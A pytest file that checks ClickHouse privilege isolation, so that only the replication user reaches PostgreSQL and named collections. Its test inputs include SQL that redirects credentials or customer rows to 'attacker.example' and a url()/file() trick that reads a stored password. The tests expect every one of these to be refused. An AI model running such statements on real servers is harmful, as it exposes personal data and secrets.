"""Only replication's ClickHouse user reaches PostgreSQL. Its named collection holds a role that reads
every contact detail (phone, email, messenger ids, birth dates, conversation text), which stay in
PostgreSQL: dbt's user (``default``), analysts' and BI tools' (``bi_reader``) are refused the
postgresql() function, the PostgreSQL engines and dictionary source, and named collections, on the
real local server, as a real ClickHouse refuses them without the grants (docs/warehouse.md)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from clickhouse_connect.driver.exceptions import DatabaseError

from devstack import state
from devstack.clickhouse import launcher
from ingestion.replication.connections import ensure_named_collection, replication_client, source
from ingestion.replication.replicate import replicate_tables
from orchestration import environment
from tests.clickhouse.conftest import TEST_DATABASE, as_replication, connect
from tests.fixtures.warehouse import load_fixture
from tests.warehouse.conftest import clickhouse_env  # noqa: F401 (a fixture)

PROBE_COLLECTION = "ch_tests_pg_probe"

# Each way to PostgreSQL or to a named collection; {c} is a collection the replication user made.
REFUSED = {
    "collection": "select phone from postgresql({c}, table = 'customers')",
    "literal arguments": "select phone from postgresql('127.0.0.1:5432', 'crm', 'customers', 'u', 'p')",
    "quoted name": "select phone from `PostgreSQL`({c}, table = 'customers')",
    "table engine": "create table ch_tests.pg_customers (id Int64) engine = PostgreSQL({c}, table = 'customers')",
    "database engine": "create database pg_mirror engine = MaterializedPostgreSQL('127.0.0.1:5432', 'crm', 'u', 'p')",
    "dictionary source": "create dictionary ch_tests.pg_phones (id UInt64, phone String) primary key id"
    " source(postgresql(name {c} table 'customers')) layout(flat()) lifetime(0)",
    "insert": "insert into function postgresql({c}, table = 'tags') (name) values ('x')",
    "create collection": "create named collection ch_tests_stolen as host = '127.0.0.1', password = 'p'",
    "alter collection": "alter named collection {c} set host = 'attacker.example'",
    "drop collection": "drop named collection {c}",
    "system table": "select * from system.named_collections",
    "system table through merge": "select * from merge('system', '^named_collections$')",
    "system table by a shorter pattern": "select name from merge('system', '^named_coll')",
    "system databases by a pattern": "select name from merge(REGEXP('^sys'), '^named_coll')",
    "system table through loop": "select name from loop('system', 'named_collections') limit 1",
    "system table spelled with escapes": "select name from system.`named\\x5fcollections`",
    "system table as a dictionary's source": "create dictionary ch_tests.nc_names (name String)"
    " primary key name source(clickhouse(table 'named_collections' db 'system'))"
    " layout(complex_key_hashed()) lifetime(0)",
    "collection in another function": "select * from remote({c}, host = 'attacker.example:9000', table = 'customers')",
    "another server as a dictionary's source": "create dictionary ch_tests.nc_names (id UInt64) primary key id"
    " source(clickhouse(host '127.0.0.1' port 9000 table 'pages' db 'ch_tests')) layout(flat()) lifetime(0)",
    "system tables as a local dictionary's source": "create dictionary ch_tests.nc_names (name String)"
    " primary key name source(clickhouse(table 'tables' db 'system')) layout(complex_key_hashed()) lifetime(0)",
}


@pytest.fixture(scope="module")
def probe_collection(clickhouse_server):
    """A collection as replication makes one (pointing nowhere: nothing here needs it to answer)."""
    client = _as_replication(clickhouse_server)
    client.command(
        f"create named collection if not exists {PROBE_COLLECTION} as host = '127.0.0.1', port = 1,"
        " user = 'reader', password = 'not-the-real-one', database = 'crm', schema = 'public'"
    )
    yield PROBE_COLLECTION
    client.command(f"drop named collection if exists {PROBE_COLLECTION}")
    client.close()


def _as_replication(info: dict, **settings):
    return connect(as_replication(info), **settings)


@pytest.mark.parametrize("reader", ["default", "bi_reader"])
@pytest.mark.parametrize("how", sorted(REFUSED))
def test_other_users_are_refused_postgresql_and_named_collections(
    clickhouse_server, database, probe_collection, reader, how
):
    client = connect(clickhouse_server, readonly=reader == "bi_reader")
    try:
        with pytest.raises(DatabaseError) as refused:
            client.command(REFUSED[how].format(c=probe_collection))
    finally:
        client.close()
    assert "Code: 497" in str(refused.value) and f"{reader}: Not enough privileges" in str(refused.value)
    replication = _as_replication(clickhouse_server)
    try:  # nothing was made or changed by the refused statements
        assert replication.query(
            "select name from system.named_collections where name like 'ch_tests%' order by name"
        ).result_rows == [(PROBE_COLLECTION,)]
        assert not replication.command(
            "select count() from system.tables where name in ('pg_customers', 'pg_phones', 'nc_names')"
        )
    finally:
        replication.close()


def test_what_only_looks_like_a_collection_is_not_refused(client):
    """A function of the same name used otherwise, or the words in a string, are no way to PostgreSQL."""
    assert client.command("select 'postgresql(x, table = 1)' || 'named collection'") == (
        "postgresql(x, table = 1)named collection"
    )
    assert client.command("select count() from numbers(3) as postgresql") == 3
    assert client.command("select 'named_collections'") == "named_collections"
    client.command("create or replace table deposits (status String) engine = Memory")
    client.command("insert into deposits values ('named_collections_test'), ('paid')")
    assert client.command("select count() from deposits where status = 'named_collections_test'") == 1
    # a table named like a function, followed by its columns, is no call of it
    client.command("create or replace table url (id Int64) engine = Memory")
    client.command(f"insert into {TEST_DATABASE}.url (id) values (1)")
    client.command("insert into url (id) values (2)")
    assert client.command(f"select sum(id) from {TEST_DATABASE}.url") == 3
    # projections and indexes named like functions (dbt-clickhouse renders PROJECTION name (...))
    client.command(
        "create or replace table pages (id UInt64, url String, file String,"
        " projection file (select * order by file)) engine = MergeTree order by id"
    )
    client.command("alter table pages add projection url (select * order by url)")
    client.command("alter table pages add index if not exists url (url) type bloom_filter")
    client.command("insert into pages values (1, 'https://example.com', 'a.csv')")
    # input() reads only the request's body: not refused
    client.command("insert into url select * from input('id Int64') format CSV\n4\n")
    # merge() over the current database, named or not
    for merged in ["merge(currentDatabase(), '^pages$')", "merge('^pages$')"]:
        assert client.command(f"select count() from {merged}") == 1, merged
    assert client.command("select count() from mergeTreeIndex(currentDatabase(), 'pages')") >= 1
    client.command("create or replace table merged as pages engine = Merge(currentDatabase(), '^pages$')")
    assert client.command("select count() from merged") == 1
    # a dictionary over this server's own table, without credentials (COMPATIBILITY.md)
    client.command(
        f"create or replace dictionary pages_by_id (id UInt64, url String) primary key id"
        f" source(clickhouse(table 'pages' db '{TEST_DATABASE}')) layout(flat()) lifetime(0)"
    )
    assert client.command("select dictGet('pages_by_id', 'url', toUInt64(1))") == "https://example.com"
    client.command("drop dictionary pages_by_id")
    for table in ["merged", "pages", "url", "deposits"]:
        client.command(f"drop table {table}")


def test_the_bi_user_reads_a_string_naming_the_collections_table(clickhouse_server, client):
    client.command("create or replace table deposits (status String) engine = Memory")
    client.command("insert into deposits values ('paid')")
    reader = connect(clickhouse_server, readonly=True)
    try:
        assert reader.query(
            f"select status, 'see system.named_collections' from {TEST_DATABASE}.deposits"
        ).result_rows == [("paid", "see system.named_collections")]
    finally:
        reader.close()
        client.command("drop table deposits")


def _through_url_as_replication(info: dict) -> str:
    """The reviewer's way round: ``url()`` calls this server as replication, with the password
    ``file()`` reads from the server's own secrets."""
    secret = Path(info["state_home"]) / "secrets" / "clickhouse-replication"
    return (
        f"select * from url('http://127.0.0.1:{info['port']}/?user={info['replication_user']}&password='"
        f" || (select trim(line) from file('{secret}', 'LineAsString') as t(line))"
        " || '&query=select+count()+from+system.named_collections', 'TSV', 'n UInt64')"
    )


@pytest.mark.parametrize("reader", ["default", "bi_reader", "replication"])
@pytest.mark.parametrize(
    "how", ["replication through url", "services file", "outfile", "dictionary over http"]
)
def test_no_user_reads_host_files_or_calls_other_servers(
    clickhouse_server, database, probe_collection, reader, how
):
    """file() reads the server's secrets (every password), url() calls this server as another user,
    INTO OUTFILE writes a host file, a dictionary's HTTP source fetches a URL: refused to everyone,
    replication's user too (postgresql() is all it needs)."""
    info = as_replication(clickhouse_server) if reader == "replication" else clickhouse_server
    services = Path(clickhouse_server["state_home"]) / "services.json"
    statement, grant = {
        "replication through url": (_through_url_as_replication(clickhouse_server), "READ ON URL"),
        "services file": (f"select * from file('{services}', 'LineAsString')", "READ ON FILE"),
        "outfile": (f"select 1 into outfile '{services.parent / 'outfile.txt'}'", "WRITE ON FILE"),
        "dictionary over http": (
            f"create dictionary {TEST_DATABASE}.fetched (n UInt64) primary key n source(http(url"
            f" 'http://127.0.0.1:{clickhouse_server['port']}/?query=select+1' format 'TSV'))"
            " layout(flat()) lifetime(0)",
            "READ ON URL",
        ),
    }[how]
    client = connect(info, readonly=reader == "bi_reader")
    try:
        with pytest.raises(DatabaseError) as refused:
            client.command(statement)
    finally:
        client.close()
    message, user = str(refused.value), "bi_reader" if reader == "bi_reader" else info["user"]
    assert "Code: 497" in message and f"{user}: Not enough privileges" in message
    assert f"necessary to have the grant {grant}" in message
    assert not (services.parent / "outfile.txt").exists()
    client = connect(clickhouse_server)
    try:
        assert not client.command("select count() from system.dictionaries where name = 'fetched'")
    finally:
        client.close()


def test_the_replication_user_pulls_postgresql_and_replicates(
    pg_dsn,
    clickhouse_env,  # noqa: F811 (the fixture imported above)
    clickhouse_server,
):
    load_fixture(pg_dsn)
    assert environment.clickhouse_replication_settings().username == clickhouse_server["replication_user"]
    client = replication_client()
    try:
        collection = ensure_named_collection(client, pg_dsn, clickhouse_env)
        assert client.command(f"select count() from {source('customers', collection)}") == 4
        assert collection in {
            name for (name,) in client.query("select name from system.named_collections").result_rows
        }
    finally:
        client.close()
    [result] = replicate_tables(pg_dsn, ["customers"])
    assert result.table == "customers"
    dbt = connect(clickhouse_server)
    try:  # dbt's user reads what replication wrote, but not PostgreSQL through the same collection
        assert dbt.command(f"select count() from `{clickhouse_env}`.customers final") == 4
        with pytest.raises(DatabaseError, match="Code: 497"):
            dbt.command(f"select count() from {source('customers', collection)}")
    finally:
        dbt.close()


def _users(state_home: Path) -> dict:
    return json.loads((state_home / "clickhouse" / "users.json").read_text())["users"]


def test_a_stack_made_before_the_replication_user_gets_it_on_start(tmp_path):
    """An older version's users file (no replication user, no flag) and its running server's record
    (no replication user) are brought up to date by the next start; the other users keep their
    passwords."""
    home = tmp_path / "home"
    first = launcher.start(home)
    try:
        users_file = home / "clickhouse" / "users.json"
        older = {name: entry for name, entry in _users(home).items() if name != "funnelhouse_replication"}
        for entry in older.values():
            entry.pop("postgres_source", None)
        state.write_private(users_file, json.dumps({"users": older}))
        (home / "secrets" / "clickhouse-replication").unlink(missing_ok=True)
        recorded = state.read_services(home)["clickhouse"]
        state.record_service(
            "clickhouse",
            {k: v for k, v in recorded.items() if k not in ("replication_user", "replication_password")},
            home,
        )

        again = launcher.start(home)  # the running server an older version started: restarted

        assert again["pid"] != first["pid"] and again["replication_user"] == "funnelhouse_replication"
        users = _users(home)
        assert [name for name, entry in users.items() if entry.get("postgres_source")] == [
            "funnelhouse_replication"
        ]
        for user, password in [
            ("default", first["password"]),
            ("bi_reader", first["readonly_password"]),
            (again["replication_user"], again["replication_password"]),
        ]:
            client = connect({**again, "user": user, "password": password})  # authenticates
            assert client.command("select 1") == 1
            client.close()
        replication, dbt = _as_replication(again), connect(again)
        assert replication.command("select count() from system.named_collections") == 0
        with pytest.raises(DatabaseError, match="Code: 497"):
            dbt.command("select count() from system.named_collections")
        replication.close()
        dbt.close()
    finally:
        launcher.stop(home)


def test_production_names_the_replication_user_or_warns_once(monkeypatch, caplog):
    monkeypatch.setenv("FUNNELHOUSE_ENV", "prod")
    monkeypatch.setenv("FUNNELHOUSE_CLICKHOUSE_URL", "https://ch.example:8443")
    monkeypatch.setenv("FUNNELHOUSE_CLICKHOUSE_USER", "dbt")
    monkeypatch.setenv("FUNNELHOUSE_CLICKHOUSE_PASSWORD", "dbt-secret")
    monkeypatch.setenv("FUNNELHOUSE_CLICKHOUSE_REPLICATION_USER", "replicator")
    monkeypatch.setenv("FUNNELHOUSE_CLICKHOUSE_REPLICATION_PASSWORD", "replicator-secret")
    settings = environment.clickhouse_replication_settings()
    assert (settings.url, settings.username, settings.password) == (
        "https://ch.example:8443",
        "replicator",
        "replicator-secret",
    )

    monkeypatch.delenv("FUNNELHOUSE_CLICKHOUSE_REPLICATION_USER")
    environment._warn_replication_writes_with_the_main_user.cache_clear()
    with caplog.at_level("WARNING", logger="orchestration.environment"):
        first, second = (environment.clickhouse_replication_settings() for _ in range(2))
    assert first == second == environment.clickhouse_settings()
    warnings = [record.getMessage() for record in caplog.records]
    assert len(warnings) == 1 and "FUNNELHOUSE_CLICKHOUSE_REPLICATION_USER is not set" in warnings[0]
